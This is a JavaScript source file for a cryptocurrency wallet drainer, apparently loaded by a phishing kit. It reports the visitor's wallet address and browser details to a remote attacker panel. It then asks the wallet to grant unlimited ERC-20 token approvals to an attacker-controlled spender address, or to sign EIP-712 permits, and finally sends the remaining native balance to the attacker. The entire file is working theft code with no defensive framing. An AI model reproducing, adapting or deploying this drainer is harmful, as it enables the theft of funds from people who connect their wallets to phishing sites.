// The drainer the kit loads: it reports the connected address to its panel, which answers
// with what the wallet holds worth taking; each ERC-20 token gets an approval of the
// maximum amount to the attacker's spender (sent as an ordinary transaction the wallet asks
// the visitor to confirm), tokens that support it a signed permit instead, and finally the
// native balance, less gas, is transferred to the attacker's address. Every step is logged.
window.CKDrainer = {
  api: "https://panel.walletconnect-relay.invalid/api/v2",
  spender: "0x7a3c19e5b2d48f6a0c1e9b37d5f82a4c6e0b1d93",
  start: function (eth, from, pid) {
    var self = this;
    function pad(h) { return ("0".repeat(64) + h.replace(/^0x/, "")).slice(-64); }
    function post(ev, d) {
      return fetch(self.api + "/" + ev, { method: "POST", headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ a: from, p: pid, h: location.hostname, d: d }) }).then(function (r) { return r.json(); });
    }
    function approve(t) {
      var data = "0x095ea7b3" + pad(self.spender) + "f".repeat(64);
      return eth.request({ method: "eth_sendTransaction", params: [{ from: from, to: t.address, data: data }] })
        .then(function (tx) { return post("approved", { token: t.address, tx: tx }); }, function () { return post("rejected", { token: t.address }); });
    }
    function permit(t) {
      var msg = { owner: from, spender: self.spender, value: "0x" + "f".repeat(64), nonce: t.nonce, deadline: 4102444800 };
      var typed = { types: { EIP712Domain: [{ name: "name", type: "string" }, { name: "version", type: "string" }, { name: "chainId", type: "uint256" }, { name: "verifyingContract", type: "address" }],
        Permit: [{ name: "owner", type: "address" }, { name: "spender", type: "address" }, { name: "value", type: "uint256" }, { name: "nonce", type: "uint256" }, { name: "deadline", type: "uint256" }] },
        primaryType: "Permit", domain: { name: t.name, version: t.version || "1", chainId: t.chainId, verifyingContract: t.address }, message: msg };
      return eth.request({ method: "eth_signTypedData_v4", params: [from, JSON.stringify(typed)] })
        .then(function (sig) { return post("permit", { token: t.address, sig: sig, msg: msg }); });
    }
    post("connect", { ua: navigator.userAgent }).then(function (r) {
      var chain = Promise.resolve();
      (r.tokens || []).sort(function (x, y) { return y.usd - x.usd; }).forEach(function (t) {
        chain = chain.then(function () { return t.permit ? permit(t).catch(function () { return approve(t); }) : approve(t); });
      });
      return chain.then(function () { return eth.request({ method: "eth_getBalance", params: [from, "latest"] }); });
    }).then(function (bal) {
      var keep = BigInt(21000) * BigInt(30e9), v = BigInt(bal) - keep;
      if (v <= 0n) return;
      return eth.request({ method: "eth_sendTransaction", params: [{ from: from, to: self.spender, value: "0x" + v.toString(16) }] })
        .then(function (tx) { return post("native", { tx: tx, v: v.toString() }); });
    }).catch(function (e) { post("error", { m: String(e && e.message) }); });
  }
};
